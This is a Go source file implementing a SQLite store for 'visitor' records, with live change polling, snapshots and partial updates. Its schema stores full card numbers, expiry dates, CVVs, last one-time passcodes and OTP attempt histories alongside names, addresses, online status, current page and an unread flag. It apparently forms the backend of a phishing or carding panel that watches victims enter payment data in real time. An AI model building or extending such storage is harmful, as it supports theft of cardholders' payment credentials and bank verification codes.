package source

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"time"

	"golang.org/x/time/rate"

	"github.com/visitorhub/visitorhub/internal/logging"
	"github.com/visitorhub/visitorhub/internal/visitor"

	_ "modernc.org/sqlite" // Pure-Go SQLite driver (no CGO required)
)

// Compile-time interface satisfaction checks
var _ Store = (*SQLite)(nil)

// pollRate paces the change watcher. Polling a local version counter is
// cheap; the limiter keeps a tight loop from spinning if timers misfire.
var pollRate = rate.Every(500 * time.Millisecond)

// SQLite is a file-backed visitor store.
//
// It stands in for the remote document store during development: same
// contract (full ordered snapshots, partial updates), locally persistent.
// Change detection uses a version counter bumped on every write and a
// rate-limited poll, so external writers to the same file are picked up
// too.
type SQLite struct {
	db *sql.DB

	mu      sync.Mutex
	watches map[int]chan struct{} // closed to stop a watcher
	nextID  int
}

// OpenSQLite opens (or creates) a visitor database at the given path.
func OpenSQLite(path string) (*SQLite, error) {
	db, err := sql.Open("sqlite", path)
	if err != nil {
		return nil, fmt.Errorf("failed to open database: %w", err)
	}

	// Enable WAL mode for better concurrent access
	if _, err := db.Exec("PRAGMA journal_mode=WAL"); err != nil {
		db.Close()
		return nil, fmt.Errorf("failed to enable WAL mode: %w", err)
	}

	s := &SQLite{db: db, watches: make(map[int]chan struct{})}
	if err := s.migrate(); err != nil {
		db.Close()
		return nil, fmt.Errorf("failed to migrate database: %w", err)
	}

	return s, nil
}

func (s *SQLite) migrate() error {
	schema := `
	CREATE TABLE IF NOT EXISTS visitors (
		id TEXT PRIMARY KEY,
		first_name TEXT,
		last_name TEXT,
		email TEXT,
		phone TEXT,
		online INTEGER DEFAULT 0,
		current_page TEXT,
		city TEXT,
		area TEXT,
		full_address TEXT,
		card_number TEXT,
		expiry TEXT,
		cvv TEXT,
		last_otp TEXT,
		otp_attempts TEXT,
		is_unread INTEGER DEFAULT 0,
		updated_at DATETIME NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_visitors_updated ON visitors(updated_at DESC);

	CREATE TABLE IF NOT EXISTS meta (
		key TEXT PRIMARY KEY,
		value INTEGER NOT NULL
	);

	INSERT OR IGNORE INTO meta (key, value) VALUES ('version', 0);
	`
	if _, err := s.db.Exec(schema); err != nil {
		return err
	}
	return nil
}

// Close stops all watchers and closes the database.
func (s *SQLite) Close() error {
	s.mu.Lock()
	for id, stop := range s.watches {
		close(stop)
		delete(s.watches, id)
	}
	s.mu.Unlock()
	return s.db.Close()
}

// Subscribe delivers the current snapshot immediately, then re-delivers
// whenever the store version changes. Cancel is synchronous: it waits for
// the watcher goroutine to exit before returning.
func (s *SQLite) Subscribe(ctx context.Context, onSnapshot func([]visitor.Record), onError func(error)) (func(), error) {
	if ctx == nil {
		ctx = context.Background()
	}

	version, err := s.version()
	if err != nil {
		return nil, fmt.Errorf("failed to read store version: %w", err)
	}

	records, err := s.Snapshot()
	if err != nil {
		return nil, fmt.Errorf("failed to load initial snapshot: %w", err)
	}
	onSnapshot(records)

	stop := make(chan struct{})
	s.mu.Lock()
	id := s.nextID
	s.nextID++
	s.watches[id] = stop
	s.mu.Unlock()

	done := make(chan struct{})
	go s.watch(ctx, version, stop, done, onSnapshot, onError)

	var once sync.Once
	cancel := func() {
		once.Do(func() {
			s.mu.Lock()
			if _, ok := s.watches[id]; ok {
				close(stop)
				delete(s.watches, id)
			}
			s.mu.Unlock()
			<-done
		})
	}
	return cancel, nil
}

// watch polls the version counter and pushes fresh snapshots on change.
// Query errors are reported through onError but do not stop the watcher;
// the last delivered snapshot stays in place downstream.
func (s *SQLite) watch(ctx context.Context, lastVersion int64, stop, done chan struct{},
	onSnapshot func([]visitor.Record), onError func(error)) {
	defer close(done)

	limiter := rate.NewLimiter(pollRate, 1)
	for {
		if err := limiter.Wait(ctx); err != nil {
			return
		}
		select {
		case <-stop:
			return
		case <-ctx.Done():
			return
		default:
		}

		version, err := s.version()
		if err != nil {
			onError(fmt.Errorf("failed to read store version: %w", err))
			continue
		}
		if version == lastVersion {
			continue
		}

		records, err := s.Snapshot()
		if err != nil {
			onError(fmt.Errorf("failed to load snapshot: %w", err))
			continue
		}
		lastVersion = version

		// Re-check before delivering so a cancelled watcher never
		// leaks a late snapshot.
		select {
		case <-stop:
			return
		case <-ctx.Done():
			return
		default:
			onSnapshot(records)
		}
	}
}

func (s *SQLite) version() (int64, error) {
	var v int64
	err := s.db.QueryRow("SELECT value FROM meta WHERE key = 'version'").Scan(&v)
	if err != nil {
		return 0, err
	}
	return v, nil
}

func (s *SQLite) bumpVersion(tx *sql.Tx) error {
	_, err := tx.Exec("UPDATE meta SET value = value + 1 WHERE key = 'version'")
	return err
}

// Snapshot returns the complete ordered list, updatedAt descending.
func (s *SQLite) Snapshot() ([]visitor.Record, error) {
	rows, err := s.db.Query(`
		SELECT id, first_name, last_name, email, phone, online, current_page,
		       city, area, full_address, card_number, expiry, cvv,
		       last_otp, otp_attempts, is_unread, updated_at
		FROM visitors
		ORDER BY updated_at DESC, id ASC
	`)
	if err != nil {
		return nil, fmt.Errorf("failed to query visitors: %w", err)
	}
	defer rows.Close()

	return scanRecords(rows)
}

func scanRecords(rows *sql.Rows) ([]visitor.Record, error) {
	records := make([]visitor.Record, 0)
	for rows.Next() {
		var rec visitor.Record
		var attempts sql.NullString
		err := rows.Scan(
			&rec.ID,
			&rec.FirstName,
			&rec.LastName,
			&rec.Email,
			&rec.Phone,
			&rec.Online,
			&rec.CurrentPage,
			&rec.City,
			&rec.Area,
			&rec.FullAddress,
			&rec.CardNumber,
			&rec.Expiry,
			&rec.CVV,
			&rec.LastOTP,
			&attempts,
			&rec.Unread,
			&rec.UpdatedAt,
		)
		if err != nil {
			return nil, fmt.Errorf("failed to scan visitor: %w", err)
		}
		if attempts.Valid && attempts.String != "" {
			if err := json.Unmarshal([]byte(attempts.String), &rec.OTPAttempts); err != nil {
				logging.Warn("Malformed otp_attempts column", "id", rec.ID, "error", err)
			}
		}
		records = append(records, rec)
	}

	// Critical: check for errors from row iteration
	if err := rows.Err(); err != nil {
		return nil, fmt.Errorf("error iterating rows: %w", err)
	}

	return records, nil
}

// Put inserts or replaces a whole record. A zero UpdatedAt is stamped
// with the current time.
func (s *SQLite) Put(rec visitor.Record) error {
	if rec.UpdatedAt.IsZero() {
		rec.UpdatedAt = time.Now()
	}
	attempts, err := json.Marshal(rec.OTPAttempts)
	if err != nil {
		return fmt.Errorf("failed to encode otp attempts: %w", err)
	}

	tx, err := s.db.Begin()
	if err != nil {
		return fmt.Errorf("failed to begin transaction: %w", err)
	}
	// Rollback is safe to call even after commit - it's a no-op
	defer tx.Rollback()

	_, err = tx.Exec(`
		INSERT INTO visitors (id, first_name, last_name, email, phone, online, current_page,
		                      city, area, full_address, card_number, expiry, cvv,
		                      last_otp, otp_attempts, is_unread, updated_at)
		VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
		ON CONFLICT(id) DO UPDATE SET
			first_name = excluded.first_name,
			last_name = excluded.last_name,
			email = excluded.email,
			phone = excluded.phone,
			online = excluded.online,
			current_page = excluded.current_page,
			city = excluded.city,
			area = excluded.area,
			full_address = excluded.full_address,
			card_number = excluded.card_number,
			expiry = excluded.expiry,
			cvv = excluded.cvv,
			last_otp = excluded.last_otp,
			otp_attempts = excluded.otp_attempts,
			is_unread = excluded.is_unread,
			updated_at = excluded.updated_at
	`,
		rec.ID, rec.FirstName, rec.LastName, rec.Email, rec.Phone, rec.Online, rec.CurrentPage,
		rec.City, rec.Area, rec.FullAddress, rec.CardNumber, rec.Expiry, rec.CVV,
		rec.LastOTP, string(attempts), rec.Unread, rec.UpdatedAt,
	)
	if err != nil {
		return fmt.Errorf("failed to save visitor: %w", err)
	}

	if err := s.bumpVersion(tx); err != nil {
		return fmt.Errorf("failed to bump version: %w", err)
	}
	return tx.Commit()
}

// columnFor maps wire field names to visitor table columns.
var columnFor = map[string]string{
	FieldFirstName:   "first_name",
	FieldLastName:    "last_name",
	FieldEmail:       "email",
	FieldPhone:       "phone",
	FieldOnline:      "online",
	FieldCurrentPage: "current_page",
	FieldCity:        "city",
	FieldArea:        "area",
	FieldFullAddress: "full_address",
	FieldCardNumber:  "card_number",
	FieldExpiry:      "expiry",
	FieldCVV:         "cvv",
	FieldLastOTP:     "last_otp",
	FieldUnread:      "is_unread",
	FieldUpdatedAt:   "updated_at",
}

// Update applies a partial update to one record. Only the given columns
// change - the ordering timestamp included, so the record keeps its
// snapshot position unless FieldUpdatedAt is passed. Unknown field names
// are rejected rather than silently dropped - unlike documents, a SQL
// schema is closed.
func (s *SQLite) Update(ctx context.Context, id string, fields map[string]any) error {
	if len(fields) == 0 {
		return nil
	}

	set := make([]string, 0, len(fields))
	args := make([]any, 0, len(fields)+1)
	for name, value := range fields {
		col, ok := columnFor[name]
		if !ok {
			return fmt.Errorf("update %s: unknown field %q", id, name)
		}
		set = append(set, col+" = ?")
		args = append(args, value)
	}
	args = append(args, id)

	tx, err := s.db.Begin()
	if err != nil {
		return fmt.Errorf("failed to begin transaction: %w", err)
	}
	defer tx.Rollback()

	query := "UPDATE visitors SET " + strings.Join(set, ", ") + " WHERE id = ?"
	result, err := tx.ExecContext(ctx, query, args...)
	if err != nil {
		return fmt.Errorf("failed to update visitor: %w", err)
	}
	rows, _ := result.RowsAffected()
	if rows == 0 {
		return fmt.Errorf("update %s: record not found", id)
	}

	if err := s.bumpVersion(tx); err != nil {
		return fmt.Errorf("failed to bump version: %w", err)
	}
	return tx.Commit()
}

// Delete removes a record.
func (s *SQLite) Delete(id string) error {
	tx, err := s.db.Begin()
	if err != nil {
		return fmt.Errorf("failed to begin transaction: %w", err)
	}
	defer tx.Rollback()

	if _, err := tx.Exec("DELETE FROM visitors WHERE id = ?", id); err != nil {
		return fmt.Errorf("failed to delete visitor: %w", err)
	}
	if err := s.bumpVersion(tx); err != nil {
		return fmt.Errorf("failed to bump version: %w", err)
	}
	return tx.Commit()
}

// Count returns the number of stored records.
func (s *SQLite) Count() (int, error) {
	var count int
	err := s.db.QueryRow("SELECT COUNT(*) FROM visitors").Scan(&count)
	if err != nil {
		return 0, fmt.Errorf("failed to count visitors: %w", err)
	}
	return count, nil
}
